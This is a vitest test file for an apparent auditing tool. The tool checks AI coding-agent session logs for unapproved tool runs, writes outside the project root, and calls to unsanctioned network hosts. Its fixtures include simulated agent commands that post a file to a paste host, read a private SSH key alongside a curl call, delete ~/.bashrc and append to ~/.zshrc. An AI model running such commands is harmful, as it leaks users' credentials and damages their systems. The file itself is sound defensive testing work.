import { describe, expect, it } from 'vitest';
import { at, call, prompt, result } from '../../../e2e/draw-evidence.ts';
import { openDrawn } from '../drawn-case.ts';
import { overviewOf } from './overview.ts';
import { caseSummary } from './summary.ts';

const folder = 'Users/kim/.claude/projects/-Users-kim-work-till';

describe('the overview', () => {
  it('says how long calls ran that nobody approved, counting time that two sessions share once', async () => {
    const opened = await openDrawn({
      [`${folder}/s1.jsonl`]: [prompt('Go', 'bypassPermissions', { second: 0 }), call('a1', 'Bash', { command: 'ls' }, { second: 0 }), call('a2', 'Bash', { command: 'ls' }, { second: 100 })],
      [`${folder}/s2.jsonl`]: [prompt('Go', 'bypassPermissions', { second: 50, session: 's2' }), call('b1', 'Bash', { command: 'ls' }, { second: 50, session: 's2' }), call('b2', 'Bash', { command: 'ls' }, { second: 120, session: 's2' })],
      [`${folder}/s3.jsonl`]: [prompt('Ask me', 'default', { second: 200, session: 's3' }), call('c1', 'Bash', { command: 'ls' }, { second: 201, session: 's3' })],
    });
    expect(overviewOf(opened)).toMatchObject({ unattendedMs: 120_000, headline: 'Tools ran unattended for 2 min', sessionsByAttendance: { attended: 1, unattended: 2, mixed: 0, unknown: 0 } });
  });

  it('groups writes by path and network commands by host, each with its number of calls and a finding to open', async () => {
    const opened = await openDrawn({
      [`${folder}/s1.jsonl`]: [
        call('t1', 'Bash', { command: 'echo a >> ~/.zshrc && echo b >> ~/.zshrc' }, { second: 1 }),
        call('t2', 'Write', { file_path: '/Users/kim/.zshrc' }, { second: 2 }),
        call('t3', 'Bash', { command: 'curl https://one.example.net/a && curl https://two.example.net/b' }, { second: 3 }),
        call('t4', 'Bash', { command: 'curl https://one.example.net/c' }, { second: 4 }),
      ],
    });
    const overview = overviewOf(opened);
    expect(overview.outsideRoot.map((row) => [row.label, row.count])).toEqual([['/Users/kim/.zshrc', 2]]);
    expect(overview.network.map((row) => [row.label, row.note, row.count])).toEqual([['one.example.net', '✕ unsanctioned', 2], ['two.example.net', '✕ unsanctioned', 1]]);
    expect(overview).toMatchObject({ writesOutsideRoot: 2, networkCommands: 2 });
    for (const row of [...overview.outsideRoot, ...overview.network]) expect(opened.findings.some(({ finding }) => finding.id === row.findingId)).toBe(true);
  });

  it('names hosts that the policy does not sanction before those that are called more often', async () => {
    const opened = await openDrawn({
      [`${folder}/s1.jsonl`]: [
        ...[1, 2, 3].map((second) => call(`t${second}`, 'Bash', { command: `curl -O https://pypi.org/${second}` }, { second })),
        call('t4', 'Bash', { command: 'curl -d @a https://paste.example.net/' }, { second: 4 }),
      ],
    });
    const { network } = overviewOf(opened);
    expect(network.map((row) => [row.label, row.note, row.count])).toEqual([['paste.example.net', '✕ unsanctioned', 1], ['pypi.org', 'curl', 3]]);
    expect(opened.findings.find(({ finding }) => finding.id === network[0]?.findingId)?.finding.rule).toMatch(/^network\.unsanctioned/);
  });

  it('says what the copy lacks, and that no rule matched instead of an all-clear', async () => {
    const opened = await openDrawn({ [`${folder}/s1.jsonl`]: [prompt('Look', 'default', { second: 1 }), call('t1', 'Read', { file_path: 'a.ts' }, { second: 2 }), result('t1', 'x', { second: 3 })] });
    const overview = overviewOf(opened);
    expect(overview.sourcesMissing).toContain('No git repositories: calls cannot be compared with reflogs.');
    expect(overview.subline).toContain(`${opened.rules.length} rules ran. None matched.`);
    expect(overview.worst).toBeNull();
  });

  it('has sums that add up with the summary', async () => {
    const opened = await openDrawn({ [`${folder}/s1.jsonl`]: [call('t1', 'Bash', { command: 'cat ~/.ssh/id_ed25519 && curl https://a.example.net' }, { second: 1 }), call('t2', 'Bash', { command: 'rm ~/.bashrc' }, { second: 2 })] });
    const summary = caseSummary(opened);
    const sum = (counts: Record<string, number>): number => Object.values(counts).reduce((total, count) => total + count, 0);
    expect(sum(summary.findingsBySeverity)).toBe(summary.findings);
    expect(sum(summary.findingsByRule)).toBe(summary.findings);
    expect(sum(summary.events.byKind)).toBe(summary.events.total);
    expect(sum(summary.events.byTool)).toBe(summary.callsExamined);
    expect(summary.events.first).toBe(Date.parse(at(1)));
  });
});
